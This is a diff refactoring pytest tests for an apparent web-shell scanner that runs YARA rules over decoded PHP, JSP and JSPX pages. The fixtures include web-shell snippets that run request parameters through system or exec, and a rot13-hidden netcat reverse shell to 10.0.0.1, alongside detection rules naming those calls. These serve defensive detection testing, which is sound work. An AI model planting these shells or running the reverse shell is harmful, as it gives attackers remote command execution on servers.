@@ -58,6 +58,14 @@ def ruleset(tmp_path_factory: pytest.TempPathFactory) -> RuleSet:
     return load_rules((d, TRIGGERS), default_rules=False)
 
 
+def rules_of(tmp_path: Path, text: str) -> RuleSet:
+    """A rule set of `text` and the real decode triggers."""
+    d = tmp_path / "rules"
+    d.mkdir()
+    (d / "t.yar").write_text(text)
+    return load_rules((d, TRIGGERS), default_rules=False)
+
+
 def scan(ruleset: RuleSet, tmp_path: Path, name: str, data: bytes) -> dict[str, str]:
     f = tmp_path / name
     f.write_bytes(data)
@@ -867,10 +875,7 @@ def test_an_ascii_compatible_or_unknown_encoding_makes_no_layer(declared: str) -
 
 
 def test_an_ebcdic_shell_is_found_by_the_plain_rule_on_its_layer(tmp_path: Path) -> None:
-    d = tmp_path / "rules"
-    d.mkdir()
-    (d / "t.yar").write_text(JSP_RULES)
-    rs = load_rules((d, TRIGGERS), default_rules=False)
+    rs = rules_of(tmp_path, JSP_RULES)
     page = b'<%@ page contentType="text/html;charset=IBM500" %>' + JSP_BODY.encode("cp500")
     assert scan(rs, tmp_path, "x.jsp", page) == {"T_Jsp_Exec": "charset"}
     plain = b'<%@ page contentType="text/html;charset=IBM437" %><% out.print(1); %>'
@@ -918,12 +923,10 @@ CODE = b' Runtime.getRuntime().exec(request.getParameter("c"));'
     ids=["cdata-split", "hex-references", "decimal-references"],
 )
 def test_a_jsp_document_is_read_as_the_container_reads_it(tmp_path: Path, hidden: bytes) -> None:
-    d = tmp_path / "rules"
-    d.mkdir()
-    (d / "t.yar").write_text(
-        'rule T_Jspx_Exec { strings: $a = "<% Runtime.getRuntime().exec(request" condition: $a }'
+    rs = rules_of(
+        tmp_path,
+        'rule T_Jspx_Exec { strings: $a = "<% Runtime.getRuntime().exec(request" condition: $a }',
     )
-    rs = load_rules((d, TRIGGERS), default_rules=False)
     assert scan(rs, tmp_path, "d.jspx", JSPX % hidden) == {"T_Jspx_Exec": "jspx"}
 
 
@@ -991,13 +994,11 @@ def _threaded(statements: list[bytes], seed: int) -> bytes:
 
 @pytest.mark.parametrize("seed", [1, 2, 3])
 def test_goto_threaded_statements_are_put_back_in_running_order(tmp_path: Path, seed: int) -> None:
-    d = tmp_path / "rules"
-    d.mkdir()
-    (d / "t.yar").write_text(
+    rs = rules_of(
+        tmp_path,
         'rule T_Goto_Chain { strings: $a = /\\$c = \\$_POST\\["c"\\];\\s+\\$f = "sys"/ '
-        "condition: $a }"
+        "condition: $a }",
     )
-    rs = load_rules((d, TRIGGERS), default_rules=False)
     page = _threaded(
         [b'$c = $_POST["c"];', b'$f = "sys";', b'$f .= "tem";', b"$f($c);", b"echo 1;"], seed
     )
@@ -1045,14 +1046,12 @@ def test_a_decoded_payload_is_folded_whole_not_in_windows(ruleset: RuleSet, tmp_
 
 
 def test_php_names_above_ascii_are_renamed_for_the_rules(tmp_path: Path) -> None:
-    d = tmp_path / "rules"
-    d.mkdir()
-    (d / "t.yar").write_text(
+    rs = rules_of(
+        tmp_path,
         "rule T_Named { strings: "
         "$a = /\\$[a-zA-Z_]\\w{0,9} = \\$_POST\\['c'\\]; system\\(\\$[a-zA-Z_]\\w{0,9}\\)/ "
-        "condition: $a }"
+        "condition: $a }",
     )
-    rs = load_rules((d, TRIGGERS), default_rules=False)
     for name in ("命令".encode(), "команда".encode()):
         page = b"<?php $%s = $_POST['c']; system($%s); $%s = 1;" % (name, name, "其他".encode())
         assert scan(rs, tmp_path, "n.php", page) == {"T_Named": "names"}
@@ -1076,12 +1075,10 @@ def test_an_encoders_byte_names_get_no_layer() -> None:
 
 
 def test_a_page_padded_with_blanks_is_squeezed(tmp_path: Path) -> None:
-    d = tmp_path / "rules"
-    d.mkdir()
-    (d / "t.yar").write_text(
-        'rule T_Small_System { strings: $a = "system($_GET" condition: filesize < 1KB and $a }'
+    rs = rules_of(
+        tmp_path,
+        'rule T_Small_System { strings: $a = "system($_GET" condition: filesize < 1KB and $a }',
     )
-    rs = load_rules((d, TRIGGERS), default_rules=False)
     page = b"<?php" + b" " * 30000 + b"\n" + b"\t" * 20000 + b"system($_GET['c']);" + b" " * 9000
     assert scan(rs, tmp_path, "p.php", page) == {"T_Small_System": "padding"}
 
@@ -1093,10 +1090,7 @@ def test_a_page_with_some_alignment_is_no_padded_page() -> None:
 
 
 def test_a_call_spaced_from_its_name_is_closed_up(tmp_path: Path) -> None:
-    d = tmp_path / "rules"
-    d.mkdir()
-    (d / "t.yar").write_text("rule T_Eval_Page { strings: $a = \"eval('?>'\" condition: $a }")
-    rs = load_rules((d, TRIGGERS), default_rules=False)
+    rs = rules_of(tmp_path, "rule T_Eval_Page { strings: $a = \"eval('?>'\" condition: $a }")
     page = b"<?php $a = fetch_page('x');\neval    ('?>'.$a);\n"
     assert scan(rs, tmp_path, "g.php", page) == {"T_Eval_Page": "gap"}
     assert padding.ungap(b"<?php eval('x'); if ($a) { f(1); }", 1 << 20) is None
@@ -1324,10 +1318,7 @@ def test_what_is_not_a_short_line_of_text_stays_encoded() -> None:
 def test_a_command_decoded_in_place_meets_the_rule_for_its_call(
     tmp_path: Path,
 ) -> None:
-    d = tmp_path / "rules"
-    d.mkdir()
-    (d / "t.yar").write_text('rule T_Rev { strings: $a = "exec(\'nc -nv" condition: $a }')
-    rs = load_rules((d, TRIGGERS), default_rules=False)
+    rs = rules_of(tmp_path, 'rule T_Rev { strings: $a = "exec(\'nc -nv" condition: $a }')
     page = b"<? echo exec(str_rot13('ap -ai 10.0.0.1 1234 -r /ova/onfu')); ?>"
     assert scan(rs, tmp_path, "q.php", page) == {"T_Rev": "inline"}
 
